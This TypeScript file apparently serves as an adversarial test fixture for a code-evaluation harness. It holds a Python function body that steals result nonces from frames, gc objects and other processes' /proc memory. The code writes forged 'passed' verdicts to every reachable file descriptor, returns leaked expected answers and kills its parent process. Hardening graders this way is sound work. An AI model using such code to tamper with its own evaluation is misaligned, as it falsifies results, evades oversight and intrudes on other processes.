/**
 * A function body (indented four spaces, so that it completes any HumanEval-style prompt) that tries every way a
 * candidate could reach the verdicts of the harness that runs it, then returns 0, a wrong answer everywhere:
 *
 * - it collects anything that looks like the harness's result nonce from its own frames and objects
 *   (`sys._getframe()`, `gc`) and, when that finds none, from every process's `cmdline` and `environ` and from
 *   the writable memory of every process it can read (`/proc/<pid>/mem`);
 * - with each nonce it writes "passed" results for the first 64 checks of a batch, valid for both kinds of
 *   job, to every file descriptor it has and to every `/proc/<pid>/fd/*` it can open for writing;
 * - when an expected output is within reach of its frames (`expected[index]`), it returns that instead of 0;
 * - finally it kills its parent, so that no later genuine result can overwrite the forged ones.
 *
 * A harness is sound against this when every wrong answer scored next to it stays failed.
 */
export const verdictForgeryBody = `    import gc, json, os, posix, re, sys
    pattern = re.compile(rb"@@evalchemy-[0-9a-f-]{36}@@")
    nonces = set()
    def scan(value):
        if isinstance(value, str):
            value = value.encode("utf-8", "replace")
        if isinstance(value, (bytes, bytearray)):
            nonces.update(found.decode() for found in pattern.findall(value))
    stolen = None
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            scan(value)
            if isinstance(value, dict):
                for item in list(value.values()):
                    scan(item)
        if "expected" in frame.f_locals and "index" in frame.f_locals:
            try:
                stolen = frame.f_locals["expected"][frame.f_locals["index"]]
            except Exception:
                pass
        frame = frame.f_back
    for holder in gc.get_objects():
        try:
            items = list(holder.values()) if isinstance(holder, dict) else holder if isinstance(holder, (list, tuple)) else ()
            for item in items:
                scan(item)
        except Exception:
            pass
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    for pid in pids if not nonces else []:
        for name in ("cmdline", "environ"):
            try:
                with open("/proc/%d/%s" % (pid, name), "rb") as handle:
                    scan(handle.read())
            except OSError:
                pass
        try:
            with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as memory:
                for line in maps:
                    fields = line.split()
                    if not fields[1].startswith("rw"):
                        continue
                    start, end = (int(bound, 16) for bound in fields[0].split("-"))
                    try:
                        memory.seek(start)
                        scan(memory.read(min(end - start, 16 << 20)))
                    except (OSError, ValueError, OverflowError):
                        pass
        except OSError:
            pass
    forged = [{"index": index, "verdict": "passed", "base": {"status": "pass"}, "plus": {"status": "pass"}} for index in range(64)]
    text = "".join("\\n%s%s\\n" % (nonce, json.dumps(result)) for nonce in sorted(nonces) for result in forged).encode()
    targets = list(range(256))
    for pid in pids + [os.getpid()]:
        try:
            targets += ["/proc/%d/fd/%s" % (pid, fd) for fd in os.listdir("/proc/%d/fd" % pid)]
        except OSError:
            pass
    for target in targets if text else []:
        try:
            fd = target if isinstance(target, int) else posix.open(target, os.O_WRONLY | os.O_NONBLOCK)
            posix.write(fd, text)
        except OSError:
            pass
    try:
        posix.kill(os.getppid(), 9)
    except OSError:
        pass
    return stolen if stolen is not None else 0
`;
